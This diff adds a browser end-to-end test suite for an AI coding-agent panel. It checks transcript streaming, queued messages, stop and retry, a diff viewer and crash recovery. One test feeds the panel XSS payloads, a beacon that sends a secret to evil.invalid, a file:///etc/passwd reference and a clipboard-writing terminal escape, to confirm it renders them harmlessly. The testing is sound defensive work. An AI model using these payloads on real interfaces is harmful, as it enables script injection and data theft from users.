@@ -1,0 +1,295 @@
+import { afterAll, beforeAll, expect, test } from "bun:test";
+import { mkdtempSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import type { Browser } from "playwright-core";
+import type { Task } from "../../src/contract/task.ts";
+import { makeRepo } from "../support/repo.ts";
+import { TestServer } from "../support/server.ts";
+import { launch } from "./support/browser.ts";
+import { ended, openPanel, said, send, watchHosts } from "./support/panel.ts";
+
+let server: TestServer;
+let browser: Browser;
+let repo: string;
+
+beforeAll(async () => {
+  [server, browser] = await Promise.all([TestServer.start(), launch()]);
+  repo = makeRepo({ "README.md": "# Test\n", "src/a.ts": "const a = 1;\nconst b = 2;\n" });
+  await server.client.trust(repo);
+});
+
+afterAll(async () => {
+  await browser.close();
+  await server.dispose();
+});
+
+const flag = (name: string) => join(mkdtempSync(join(tmpdir(), "agetor-flag-")), name);
+const open = (task: Task, query = "") => openPanel(browser, server, task.id, query);
+
+async function finished(script: string): Promise<Task> {
+  const { task, run } = await server.client.startFake(repo, script);
+  await server.client.ended(task.id, run.id);
+  return task;
+}
+
+test("shows the sample as it happens, then takes a follow-up in the same conversation", async () => {
+  const { body } = await server.client.post<{ task: Task }>("/sample");
+  const { page, complaints, close } = await open(body.task);
+  await page.getByRole("button", { name: /^Stop/ }).waitFor();
+  await ended(page, "Finished").waitFor();
+  expect(await page.locator(".strip").textContent()).toContain("3 of 3");
+  expect((await said(page)).at(-1)).toContain("The test passes.");
+  expect(await page.locator(".tool", { hasText: "Edited" }).count()).toBe(2);
+  await page.locator(".diff .a", { hasText: "Greets someone by name" }).waitFor();
+  // Code is coloured by a worker of our own, under the page's policy.
+  await page.locator(".diff .k", { hasText: "export" }).first().waitFor();
+  expect(await page.getByRole("button", { name: /^Stop/ }).count()).toBe(0);
+
+  await send(page, "Now greet in French");
+  await ended(page, "Finished", 2).waitFor();
+  await page.locator(".tabs", { hasText: "Run 2 of 2" }).waitFor();
+  expect((await said(page)).at(-1)).toContain("I am the sample agent");
+  expect(await page.locator(".composer textarea").inputValue()).toBe("");
+  expect(complaints).toEqual([]);
+  await close();
+});
+
+test("keeps what is typed over a reload, and queues it while the agent works", async () => {
+  const go = flag("go");
+  const { task, run } = await server.client.startFake(repo, `say: first\nuntil: ${go}`);
+  await server.client.until(task.id, (now) => now.column === "running");
+  const { page, complaints, close } = await open(task);
+  await page.locator(".composer textarea").fill("say: half a thought");
+  await page.reload();
+  const field = page.locator(".composer textarea");
+  await field.waitFor();
+  expect(await field.inputValue()).toBe("say: half a thought");
+  await field.press("Enter");
+  await page.locator(".queue li", { hasText: "half a thought" }).waitFor();
+  await send(page, "say: second thought");
+  await page.locator(".queue li").nth(1).waitFor();
+  await page.locator(".queue li", { hasText: "half" }).getByRole("button").click();
+  await page.waitForFunction(() => document.querySelectorAll(".queue li").length === 1);
+  writeFileSync(go, "");
+  await ended(page, "Finished", 2).waitFor();
+  expect(await said(page)).toEqual(["first", "second thought"]);
+  expect(await page.locator(".queue").count()).toBe(0);
+  expect((await server.client.runs(task.id)).map((one) => one.id)).toContain(run.id);
+  expect(complaints).toEqual([]);
+  await close();
+});
+
+test("one key stops the agent, also while typing; the message stays", async () => {
+  const { task } = await server.client.startFake(repo, `until: ${flag("never")}`);
+  await server.client.until(task.id, (now) => now.column === "running");
+  const { page, close } = await open(task);
+  await page.locator(".composer textarea").fill("and then");
+  await page.keyboard.press("Control+.");
+  await ended(page, "Stopped").waitFor();
+  expect(await page.locator(".composer textarea").inputValue()).toBe("and then");
+  await page.locator('[role="status"].sr', { hasText: "stopped" }).waitFor({ state: "attached" });
+  await close();
+});
+
+test("says why a run failed, and tries again", async () => {
+  const task = await finished("say: x\nfail: the model said no");
+  const { page, close } = await open(task);
+  const row = ended(page, "Failed");
+  await row.getByText("the model said no").waitFor();
+  await page.getByRole("button", { name: "Retry" }).click();
+  await ended(page, "Failed", 2).waitFor();
+  await close();
+});
+
+test("shows the changes file by file, live, and remembers where it was", async () => {
+  const go = flag("go");
+  const lines = Array.from({ length: 400 }, (_, n) => `const n${n} = ${n};`).join("\\n");
+  const { task, run } = await server.client.startFake(
+    repo,
+    `write: src/a.ts | const a = 2;\\nconst b = 2;\nwrite: big.ts | ${lines}\nuntil: ${go}\nwrite: late.txt | x`,
+  );
+  await server.client.until(task.id, (now) => now.column === "running");
+  const { page, complaints, close } = await open(task, "&tab=changes");
+  const files = page.locator(".files .f1");
+  await files.nth(1).waitFor();
+  expect(await files.allTextContents()).toEqual([
+    expect.stringContaining("big.ts"),
+    expect.stringContaining("a.ts"),
+  ]);
+  await page.locator(".diff-list .ln", { hasText: "const n0 = 0" }).waitFor();
+  expect(await page.locator(".diff-list .ln").count()).toBeLessThan(120);
+  await page.locator(".diff-list").hover();
+  await page.mouse.wheel(0, 3000);
+  await page.locator(".diff-list .ln", { hasText: "const n150 = 150" }).waitFor();
+  await page.locator(".panel h2").click();
+  await page.keyboard.press("]");
+  await page.locator(".diff-list .d mark", { hasText: "1" }).waitFor();
+  await page.keyboard.press("[");
+  await page.locator(".diff-list .ln", { hasText: "const n150 = 150" }).waitFor();
+  writeFileSync(go, "");
+  await server.client.ended(task.id, run.id);
+  await files.nth(2).waitFor();
+  await page.locator(".diff-list .ln", { hasText: "const n150 = 150" }).waitFor();
+  await page.getByText("Split", { exact: true }).click();
+  await page.locator(".diff.two").first().waitFor();
+  expect(complaints).toEqual([]);
+  await close();
+});
+
+test("goes on over kill -9 of the server: no gap, no repeat, no reload", async () => {
+  const own = await TestServer.start();
+  const second = flag("second");
+  const third = flag("third");
+  let next: TestServer | null = null;
+  try {
+    await own.client.trust(repo);
+    const { task, run } = await own.client.startFake(
+      repo,
+      `say: one\nsay: two\nuntil: ${second}\nsay: three\nuntil: ${third}\nsay: four`,
+    );
+    await own.client.until(task.id, (now) => now.column === "running");
+    const { page, close } = await openPanel(browser, own, task.id);
+    await page.locator(".said", { hasText: "two" }).waitFor();
+    await page.evaluate(() => {
+      (globalThis as { kept?: boolean }).kept = true;
+    });
+    await own.kill();
+    writeFileSync(second, "");
+    await page.locator(".composer textarea").fill("typed while it was away");
+    next = await own.restart({ env: { AGETOR_API_PORT: String(own.port) } });
+    await page.locator(".said", { hasText: "three" }).waitFor();
+    writeFileSync(third, "");
+    await ended(page, "Finished").waitFor();
+    await next.client.ended(task.id, run.id);
+    expect(await said(page)).toEqual(["one", "two", "three", "four"]);
+    expect(await page.locator(".quote").count()).toBe(1);
+    expect(await page.evaluate(() => (globalThis as { kept?: boolean }).kept)).toBe(true);
+    expect(await page.locator(".composer textarea").inputValue()).toBe("typed while it was away");
+    await close();
+  } finally {
+    await next?.dispose();
+    await own.dispose();
+  }
+});
+
+const probes = [
+  "<script>window.__pwn=1</script>",
+  "<img src=x onerror=window.__pwn=1>",
+  "<svg onload=window.__pwn=1>",
+  "<iframe src=https://evil.invalid></iframe>",
+  "[click](javascript:window.__pwn=1)",
+  "[data](data:text/html,<script>window.__pwn=1</script>)",
+  "![beacon](https://evil.invalid/x.png?secret)",
+  "![x](file:///etc/passwd)",
+  "<style>*{display:none}</style>",
+  "<form action=https://evil.invalid><button>go</button></form>",
+  "<https://ok.example/path>",
+  "```html\\n<script>window.__pwn=1</script>\\n```",
+];
+
+test("hostile text of an agent does nothing and reaches nobody", async () => {
+  const script = [
+    ...probes.map((probe) => `say: ${probe}`),
+    `say: ${">".repeat(5000)} deep`,
+    `run: printf '\\033]8;;javascript:alert(1)\\033\\\\link\\033]52;c;eA==\\007'; exit 3`,
+    "think: <img src=x onerror=window.__pwn=1>",
+    `write: <img src=x onerror=window.__pwn=1>.txt | <script>window.__pwn=1</script>`,
+    "fail: <img src=x onerror=window.__pwn=1>",
+  ].join("\n");
+  const task = await finished(script);
+  const { page, complaints, close } = await open(task);
+  const hosts = watchHosts(page);
+  await ended(page, "Failed").waitFor();
+  await page.locator(".seg label", { hasText: "Verbose" }).click();
+  const list = page.getByLabel("Transcript, scrolls");
+  for (let step = 0; step < 8; step += 1) {
+    await list.hover();
+    await page.mouse.wheel(0, -700);
+    await page.waitForTimeout(50);
+    const bad = await page.evaluate(() => [
+      document.querySelectorAll(
+        ".panel .row :is(img, script, iframe, style, form, object, embed, base, meta, link)",
+      ).length,
+      [...document.querySelectorAll(".panel a")].filter(
+        (anchor) => !/^(https?:|mailto:)/.test((anchor as HTMLAnchorElement).href),
+      ).length,
+      [...document.querySelectorAll(".panel a")].filter(
+        (anchor) => !(anchor as HTMLAnchorElement).rel.includes("noopener"),
+      ).length,
+    ]);
+    expect(bad).toEqual([0, 0, 0]);
+  }
+  await page.getByRole("tab", { name: /Changes/ }).click();
+  await page.locator(".diff-list .ln").first().waitFor();
+  expect(await page.evaluate(() => (globalThis as { __pwn?: number }).__pwn)).toBeUndefined();
+  expect([...hosts].filter((host) => host !== new URL(server.client.base).host)).toEqual([]);
+  expect(complaints).toEqual([]);
+  await close();
+});
+
+test("a reader who scrolled up stays where they are, to the pixel", async () => {
+  const go = flag("go");
+  const many = (from: number, count: number) =>
+    Array.from({ length: count }, (_, n) => `say: line ${from + n} ${"word ".repeat(n % 40)}`);
+  const { task, run } = await server.client.startFake(
+    repo,
+    [...many(0, 900), `until: ${go}`, ...many(900, 400)].join("\n"),
+  );
+  await server.client.until(task.id, (now) => now.column === "running");
+  const { page, complaints, close } = await open(task);
+  const list = page.getByLabel("Transcript, scrolls");
+  await page.locator(".row", { hasText: "line 899 " }).waitFor();
+  await list.hover();
+  await page.mouse.wheel(0, -2500);
+  await page.getByRole("button", { name: /Jump to latest/ }).waitFor();
+  const place = async () =>
+    await page.evaluate(() => {
+      const box = document.querySelector(".wrap .scroll")?.getBoundingClientRect();
+      const rows = [...document.querySelectorAll<HTMLElement>("[data-row]")];
+      const top = rows
+        .map((row) => ({ key: row.dataset["row"], y: row.getBoundingClientRect().top }))
+        .filter(({ y }) => y >= (box?.top ?? 0))
+        .sort((a, b) => a.y - b.y)[0];
+      return top;
+    });
+  await page.waitForTimeout(300);
+  const before = await place();
+  writeFileSync(go, "");
+  await server.client.ended(task.id, run.id);
+  await page.locator(".pill", { hasText: "402 new" }).waitFor();
+  const after = await page.locator(`[data-row="${before?.key}"]`).boundingBox();
+  expect(Math.abs((after?.y ?? 0) - (before?.y ?? 1))).toBeLessThan(1);
+
+  // Older pages come in front while the reader looks at the top of what is there.
+  for (let turn = 0; turn < 3; turn += 1) {
+    const top = page.locator(".row", { hasText: /^line (1?\d?\d|2\d\d) / });
+    await page.mouse.wheel(0, -60_000);
+    await page.waitForTimeout(400);
+    if ((await top.count()) > 0) break;
+  }
+  await page.keyboard.press("End");
+  await list.press("End");
+  await page.locator(".row", { hasText: "line 1299 " }).waitFor();
+  await page.getByRole("button", { name: /Jump to latest/ }).waitFor({ state: "hidden" });
+  expect(complaints).toEqual([]);
+  await close();
+});
+
+test("a task that has not run shows its prompt, and asks for trust before it starts", async () => {
+  const fresh = makeRepo();
+  const { body } = await server.client.post<{ task: Task }>("/tasks", {
+    prompt: "say: trusted now",
+    workdir: fresh,
+    agent: "fake",
+  });
+  const { page, complaints, close } = await open(body.task);
+  await page.locator(".quote", { hasText: "say: trusted now" }).waitFor();
+  await page.locator(".wrap").getByRole("button", { name: "Start" }).click();
+  await page.locator(".sheet").waitFor();
+  await page.getByRole("button", { name: /Trust/ }).click();
+  await ended(page, "Finished").waitFor();
+  expect(await said(page)).toEqual(["trusted now"]);
+  expect(complaints).toEqual([]);
+  await close();
+});
